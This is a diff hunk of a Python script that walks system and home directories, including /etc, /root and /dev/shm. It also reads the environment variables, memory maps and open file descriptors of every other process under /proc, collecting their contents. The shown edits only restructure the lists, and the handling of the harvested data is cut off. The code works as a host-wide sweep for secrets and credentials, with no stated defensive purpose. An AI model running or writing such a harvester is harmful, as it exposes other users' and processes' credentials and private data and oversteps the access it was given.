@@ -13,10 +13,12 @@ def look(path):
     try:
         with open(path, 'rb') as stream: return stream.read(1 << 20)
     except (OSError, ValueError): return b''
-places = ['/tmp', '/etc', '/dev/shm', '/home', '/root', '/work', '/var', '/usr/local', '/run', '/sys', os.getcwd(), os.path.expanduser('~')]
+places = ['/tmp', '/etc', '/dev/shm', '/home', '/root', '/work', '/var', '/usr/local', '/run', '/sys']
+places += [os.getcwd(), os.path.expanduser('~')]
 found = [os.path.join(top, name) for place in places for top, _, names in os.walk(place) for name in names][:20000]
 for pid in [name for name in os.listdir('/proc') if name.isdigit()]:
-    found += [f'/proc/{pid}/{name}' for name in ('environ', 'cmdline', 'maps', 'stat', 'fd/0', 'fd/3', 'fd/4', 'fd/5', 'fd/6', 'fd/7', 'fd/8', 'fd/9')]
+    names = ['environ', 'cmdline', 'maps', 'stat', 'fd/0', *(f'fd/{number}' for number in range(3, 10))]
+    found += [f'/proc/{pid}/{name}' for name in names]
 for path in found:
     if path.split('/')[2:3] != [str(os.getpid())]:
         data = look(path)
